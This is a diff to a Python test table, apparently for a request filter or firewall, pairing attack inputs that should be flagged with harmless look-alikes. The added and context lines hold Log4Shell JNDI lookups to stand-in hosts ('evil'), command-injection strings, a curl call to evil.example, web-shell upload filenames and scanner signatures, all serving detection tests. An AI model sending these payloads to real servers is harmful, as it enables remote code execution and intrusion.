@@ -132,6 +132,9 @@ CASES: dict[str, tuple[list[tuple[str, str]], list[tuple[str, str]]]] = {
     "rce-180": ([("q", "time curl evil.example"), ("q", "x; nohup ifconfig")], [("q", "time flies like an arrow")]),
     "rce-190": ([("h:x-filename", "shell.php"), ("h:x-file-name", ".htaccess")], [("h:x-filename", "report.pdf")]),
     "rce-200": ([("q", "env --version")], [("q", "version 2 --final")]),
+    "rce-210": ([("h:user-agent", "${jndi:ldap://evil/x}"), ("q", "${${::-j}ndi:rmi://x}")], [("q", "${name}")]),
+    "rce-220": ([("q", "1;\n.shell id")], [("q", "version 1.2.shell")]),
+    "rce-230": ([("q", "bin/visudo")], [("q", "recycle bin is empty")]),
     # scanners, protocol attacks
     "scanner-100": ([("h:user-agent", "sqlmap/1.7")], [("h:user-agent", "curl/8.0")]),
     "scanner-110": ([("h:x-callback", "abc.oast.pro")], [("h:x-callback", "example.com")]),
